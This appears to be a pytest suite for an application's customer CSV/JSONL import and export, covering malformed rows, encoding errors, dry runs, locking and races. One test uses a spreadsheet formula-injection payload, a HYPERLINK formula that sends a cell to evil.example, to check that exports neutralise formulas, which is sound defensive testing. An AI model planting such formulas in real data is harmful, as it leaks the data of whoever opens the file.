import csv
import json
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from rapport.cli import app as cli_app
from rapport.config import Settings
from rapport.customers import importer, profile
from rapport.customers.models import AttributeType, Customer, Identity, IdentityKind
from rapport.db import Database
from tests.conftest import auth, record_write_lock, sqlite_only, write_lock_held
from tests.factories import World

ROWS = 5000


def _write_csv(path: Path, rows: int, *, broken_line: int | None = None) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["Full name", "E-mail", "Phone", "plan"])
        for i in range(rows):
            # Line numbers count the header as line 1.
            if broken_line is not None and i + 2 == broken_line:
                writer.writerow([f"Broken {i}", "not-an-address", "", "free"])
                continue
            writer.writerow([f"Person {i}", f"person{i}@Example.COM", f"+1415555{i:04d}", "pro"])


def _count(database: Database, model: type) -> int:
    with database.session(write=False) as db:
        return int(db.scalar(select(func.count()).select_from(model)) or 0)


def test_a_csv_import_reports_a_malformed_row_by_line_and_imports_the_others(
    database: Database, world: World, tmp_path: Path
) -> None:
    path = tmp_path / "customers.csv"
    _write_csv(path, ROWS, broken_line=101)
    before = _count(database, Customer)
    mapping = importer.parse_mapping(["name=Full name,email=E-mail", "phone=Phone"])
    seen: list[int] = []
    report = importer.import_customers(
        database,
        workspace_id=world.acme.workspace.id,
        path=path,
        mapping=mapping,
        progress=seen.append,
    )
    assert report.rows == ROWS
    assert [(e.line, "not an email address" in e.reason) for e in report.errors] == [(101, True)]
    assert report.created == ROWS - 1
    assert sum(seen) == ROWS
    assert _count(database, Customer) == before + ROWS - 1
    with database.session(write=False) as db:
        customer = db.scalar(select(Customer).where(Customer.email == "person7@example.com"))
        assert customer is not None
        assert customer.name == "Person 7"
        assert customer.phone == "+14155550007"
        assert customer.attributes == {"plan": "pro"}


def test_re_importing_updates_customers_and_never_duplicates_them(
    database: Database, world: World, tmp_path: Path
) -> None:
    path = tmp_path / "customers.jsonl"
    rows = [
        {"external_id": f"u{i}", "email": f"p{i}@example.com", "name": f"P{i}"} for i in range(50)
    ]
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n{not json\n", encoding="utf-8")
    workspace_id = world.acme.workspace.id
    first = importer.import_customers(database, workspace_id=workspace_id, path=path, mapping={})
    assert (first.created, first.updated) == (50, 0)
    assert [(e.line, e.reason.startswith("not JSON")) for e in first.errors] == [(51, True)]
    customers, identities = _count(database, Customer), _count(database, Identity)
    rows[3]["name"] = "Renamed"
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    second = importer.import_customers(database, workspace_id=workspace_id, path=path, mapping={})
    assert (second.created, second.updated, second.errors) == (0, 50, [])
    assert (_count(database, Customer), _count(database, Identity)) == (customers, identities)
    with database.session(write=False) as db:
        assert db.scalar(select(Customer.name).where(Customer.email == "p3@example.com")) == (
            "Renamed"
        )


def test_a_dry_run_checks_every_row_and_writes_none(
    database: Database, world: World, tmp_path: Path
) -> None:
    path = tmp_path / "customers.csv"
    _write_csv(path, 20, broken_line=5)
    before = _count(database, Customer)
    report = importer.import_customers(
        database,
        workspace_id=world.acme.workspace.id,
        path=path,
        mapping=importer.parse_mapping(["name=Full name,email=E-mail,phone=Phone"]),
        dry_run=True,
    )
    assert (report.created, [e.line for e in report.errors]) == (19, [5])
    assert _count(database, Customer) == before


@sqlite_only
@pytest.mark.parametrize("dry_run", [False, True], ids=["import", "dry-run"])
def test_rows_are_parsed_with_no_write_lock_held_and_a_dry_run_never_takes_it(
    database: Database, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, dry_run: bool
) -> None:
    # SQLite has one writer, and every inbound message waits while an import holds it:
    # normalizing a batch's handles (phone numbers above all) happens before its
    # transaction, and a dry run only reads.
    path = tmp_path / "customers.csv"
    _write_csv(path, 30)
    parsing = record_write_lock(monkeypatch, importer.ident, "handle", database)
    writing: list[bool] = []
    apply = importer._apply

    def applied(*args: Any, **kwargs: Any) -> None:
        apply(*args, **kwargs)
        writing.append(write_lock_held(database))  # still inside the batch's transaction

    monkeypatch.setattr(importer, "_apply", applied)
    monkeypatch.setattr(importer, "BATCH", 10)
    report = importer.import_customers(
        database,
        workspace_id=world.acme.workspace.id,
        path=path,
        mapping=importer.parse_mapping(["name=Full name,email=E-mail,phone=Phone"]),
        dry_run=dry_run,
    )
    assert report.created == 30 and not report.errors
    assert len(parsing) == 60 and not any(parsing)
    assert writing == [not dry_run] * 3


def test_the_import_and_export_commands_round_trip(
    database: Database,
    settings: Settings,
    world: World,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RAPPORT_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("RAPPORT_SECRET_KEY", settings.secret_key.get_secret_value())
    path = tmp_path / "in.csv"
    _write_csv(path, 30, broken_line=3)
    runner = CliRunner()
    args = ["import", "customers", str(path), "--workspace", "Acme"]
    args += ["--map", "name=Full name,email=E-mail,phone=Phone"]
    result = runner.invoke(cli_app, args)
    assert result.exit_code == 0, result.output
    assert "line 3:" in result.output
    assert "29 customers were created" in result.output
    out = tmp_path / "out.csv"
    result = runner.invoke(cli_app, ["export", "customers", "--workspace", "Acme", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8") as f:
        emails = {row["email"] for row in csv.DictReader(f)}
    assert "person29@example.com" in emails


def test_an_admin_uploads_a_csv_and_downloads_the_customers_through_the_api(
    client: TestClient, world: World
) -> None:
    body = "Name,Mail\nAda,ada@example.com\nBad,nope\n"
    response = client.post(
        "/api/v1/customer-files/import",
        params={"map": ["name=Name,email=Mail"]},
        content=body.encode(),
        headers=auth(world.alice),
    )
    assert response.status_code == 200, response.text
    assert response.json()["created"] == 1
    assert response.json()["errors"] == [{"line": 3, "reason": "not an email address: 'nope'"}]
    refused = client.post(
        "/api/v1/customer-files/import", content=body.encode(), headers=auth(world.bob)
    )
    assert refused.status_code == 403
    export = client.get(
        "/api/v1/customer-files/export", params={"format": "jsonl"}, headers=auth(world.alice)
    )
    assert export.status_code == 200
    rows = [json.loads(line) for line in export.text.splitlines()]
    assert any(r["email"] == "ada@example.com" and r["name"] == "Ada" for r in rows)


def test_an_exported_csv_runs_no_formula_a_customer_wrote_and_imports_back_as_it_was(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    # A mail's display name is whatever its sender typed; opened in a spreadsheet, the
    # admin's export ran it.
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    made = client.post(
        "/api/v1/customers",
        json={"name": formula, "email": "x@example.com", "attributes": {"plan": "@SUM(1+1)"}},
        headers=auth(world.alice),
    )
    assert made.status_code == 201, made.text
    export = client.get("/api/v1/customer-files/export", headers=auth(world.alice))
    assert export.status_code == 200
    rows = list(csv.DictReader(export.text.splitlines()))
    (row,) = [r for r in rows if r["email"] == "x@example.com"]
    assert row["name"] == "'" + formula and row["plan"] == "'@SUM(1+1)"
    cells = [cell for r in rows for cell in r.values()]
    assert not [c for c in cells if c and c[0] in "=+-@" and not c.lstrip("+-").isdigit()], cells
    # The file imports back to the same customer, unchanged.
    path = tmp_path / "customers.csv"
    path.write_text(export.text, encoding="utf-8")
    client.patch(
        f"/api/v1/customers/{made.json()['id']}", json={"name": "x"}, headers=auth(world.alice)
    )
    imported = client.post(
        "/api/v1/customer-files/import", content=path.read_bytes(), headers=auth(world.alice)
    )
    assert imported.status_code == 200 and imported.json()["errors"] == [], imported.text
    again = client.get(f"/api/v1/customers/{made.json()['id']}", headers=auth(world.alice))
    assert again.json()["name"] == formula
    assert again.json()["attributes"]["plan"] == "@SUM(1+1)"


def test_a_file_that_is_not_utf8_is_refused_whole_through_the_api(
    client: TestClient, world: World, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer, "BATCH", 2)  # good rows before the bad byte, in batches
    rows = [f"P{i},p{i}@example.com" for i in range(5)] + ["Zoë,zoe@example.com"]
    body = "\n".join(["Name,Mail", *rows]).encode("latin-1")
    before = _count(database, Customer)
    r = client.post(
        "/api/v1/customer-files/import",
        params={"map": ["name=Name,email=Mail"]},
        content=body,
        headers=auth(world.alice),
    )
    assert (r.status_code, r.headers["content-type"]) == (422, "application/problem+json")
    assert r.json()["detail"].startswith("the file is not UTF-8 text (line 7)")
    assert _count(database, Customer) == before


def test_the_import_command_says_a_file_is_not_utf8(
    settings: Settings, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RAPPORT_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("RAPPORT_SECRET_KEY", settings.secret_key.get_secret_value())
    path = tmp_path / "latin1.csv"
    path.write_bytes("name,email\nZoë,zoe@example.com\n".encode("latin-1"))
    result = CliRunner().invoke(cli_app, ["import", "customers", str(path), "--workspace", "Acme"])
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)  # an exit, not a traceback
    assert "not UTF-8 text" in result.output


def test_a_csv_field_beyond_the_size_limit_is_that_rows_error(
    database: Database, world: World, tmp_path: Path
) -> None:
    path = tmp_path / "customers.csv"
    big = "x" * 200_000
    path.write_text(f"name,email\n{big},big@example.com\nAda,ada@example.com\n", encoding="utf-8")
    report = importer.import_customers(
        database, workspace_id=world.acme.workspace.id, path=path, mapping={}
    )
    assert [(e.line, e.reason.startswith("not CSV: field larger")) for e in report.errors] == [
        (2, True)
    ]
    assert report.created == 1


def test_a_handle_with_a_nul_is_found_again_on_the_next_import(
    database: Database, world: World, tmp_path: Path
) -> None:
    """PostgreSQL keeps U+FFFD where the NUL was: the key looked up is the key stored."""
    path = tmp_path / "customers.csv"
    path.write_text("name,email\nN,nul\x00x@example.com\n", encoding="utf-8")
    reports = [
        importer.import_customers(
            database, workspace_id=world.acme.workspace.id, path=path, mapping={}
        )
        for _ in range(2)
    ]
    assert [(r.errors, r.created, r.updated) for r in reports] == [([], 1, 0), ([], 0, 1)]


@pytest.mark.parametrize(
    "broken",
    [
        'Kim,"kim@example.com',  # a quote opened and never closed: it ran to the end
        'Kim,"kim@example.com,x',  # ... and across a row of the wrong shape
    ],
)
def test_a_quote_never_closed_is_that_rows_error_and_the_rows_after_it_are_read(
    database: Database, world: World, tmp_path: Path, broken: str
) -> None:
    path = tmp_path / "customers.csv"
    after = [f"Person {i},person{i}@example.com" for i in range(3)]
    lines = ["name,email", "Ada,ada@example.com", broken, *after, 'Lee,"lee@example.com"']
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = importer.import_customers(
        database, workspace_id=world.acme.workspace.id, path=path, mapping={}
    )
    assert [(e.line, e.reason) for e in report.errors] == [
        (3, "a quote opened on this line is never closed")
    ]
    assert report.created == 5  # Ada, the three after, and Lee
    # A quoted field with a line break in it is one field, as ever.
    path.write_text('name,email\n"Grace\nHopper",grace@example.com\n', encoding="utf-8")
    report = importer.import_customers(
        database, workspace_id=world.acme.workspace.id, path=path, mapping={}
    )
    assert (report.errors, report.created) == ([], 1)


@pytest.mark.parametrize(
    "line",
    [
        '{"email": "big@example.com", "attributes": {"n": 18446744073709551616}}',
        '{"email": "lone@example.com", "name": "\\ud800"}',
        '{"email": "nan@example.com", "score": NaN}',  # was stored as null
        "[" * 100_000,
    ],
)
def test_a_jsonl_row_the_database_cannot_keep_is_that_rows_error(
    database: Database, world: World, tmp_path: Path, line: str
) -> None:
    path = tmp_path / "customers.jsonl"
    path.write_text(f'{line}\n{{"email": "ada@example.com"}}\n', encoding="utf-8")
    report = importer.import_customers(
        database, workspace_id=world.acme.workspace.id, path=path, mapping={}
    )
    assert [e.line for e in report.errors] == [1]
    assert report.created == 1


@pytest.mark.parametrize("dry_run", [False, True], ids=["import", "dry-run"])
def test_imported_attributes_are_stored_in_their_defined_type_and_a_bad_one_is_that_rows_error(
    database: Database, world: World, tmp_path: Path, dry_run: bool
) -> None:
    # An import wrote attributes as given: a column defined as a number stored "abc", and
    # "12" stayed text, where the API converts the one and refuses the other.
    workspace_id = world.acme.workspace.id
    with database.session() as db:
        profile.define(db, workspace_id=workspace_id, key="seats", type=AttributeType.number)
        profile.define(db, workspace_id=workspace_id, key="beta", type=AttributeType.boolean)
    path = tmp_path / "customers.csv"
    lines = [
        "name,email,seats,beta,colour",
        "Ada,ada@example.com,12,yes,teal",
        "Bea,bea@example.com,abc,no,red",
        "Cy,cy@example.com,Infinity,no,red",
        "Di,di@example.com,3,perhaps,red",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = importer.import_customers(
        database, workspace_id=workspace_id, path=path, mapping={}, dry_run=dry_run
    )
    assert [(e.line, e.reason) for e in report.errors] == [
        (3, "seats is a number, not 'abc'"),
        (4, "seats is a number, not 'Infinity'"),
        (5, "beta is true or false, not 'perhaps'"),
    ]
    assert report.created == 1
    with database.session(write=False) as db:
        stored = db.scalars(
            select(Customer.attributes).where(
                Customer.workspace_id == workspace_id,
                Customer.email.in_(["ada@example.com", "bea@example.com", "cy@example.com"]),
            )
        ).all()
    assert stored == ([] if dry_run else [{"seats": 12, "beta": True, "colour": "teal"}])


def test_a_handle_another_import_stores_between_the_read_and_the_write_joins_its_customer(
    database: Database, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Two imports (or an import and an inbound message) making one address at once: the
    # second read no holder, wrote one, met the first's on the unique handle, and failed
    # the import. Its batch now runs again and finds what the first committed.
    workspace_id = world.acme.workspace.id
    path = tmp_path / "customers.csv"
    rows = ["Ann,ann@example.com,pro", "Bea,bea@example.com,pro"]
    rows += ["Kim,kim@example.com,pro", "Cy,cy@example.com,pro"]
    path.write_text("name,email,plan\n" + "\n".join(rows) + "\n", encoding="utf-8")
    other = tmp_path / "other.csv"
    other.write_text("name,email\nKim Other,KIM@example.com\n", encoding="utf-8")
    kim = (IdentityKind.email, "kim@example.com")
    holders = importer._holders
    raced: list[Session] = []

    def read_before_the_other_commits(db: Session, ws_id: str, parsed: Any) -> Any:
        if not raced and any(values["email"] == kim[1] for _, values, _, _ in parsed):
            raced.append(db)
            # Committed before this transaction begins (SQLite's write lock would keep it
            # out after) and hidden from every read of this try: as if read before.
            importer.import_customers(database, workspace_id=workspace_id, path=other, mapping={})
        found = holders(db, ws_id, parsed)
        if raced and db is raced[0]:
            found.pop(kim, None)
        return found

    monkeypatch.setattr(importer, "_holders", read_before_the_other_commits)
    monkeypatch.setattr(importer, "BATCH", 2)  # the race in the second batch
    report = importer.import_customers(database, workspace_id=workspace_id, path=path, mapping={})
    assert raced
    assert (report.created, report.updated, report.errors) == (3, 1, [])
    with database.session(write=False) as db:
        stored = db.execute(
            select(Customer.email, Customer.name, Customer.attributes)
            .where(Customer.workspace_id == workspace_id, Customer.email.like("%@example.com"))
            .order_by(Customer.email)
        ).all()
    assert [tuple(s) for s in stored] == [
        ("ann@example.com", "Ann", {"plan": "pro"}),
        ("bea@example.com", "Bea", {"plan": "pro"}),
        ("cy@example.com", "Cy", {"plan": "pro"}),
        ("kim@example.com", "Kim", {"plan": "pro"}),
    ]
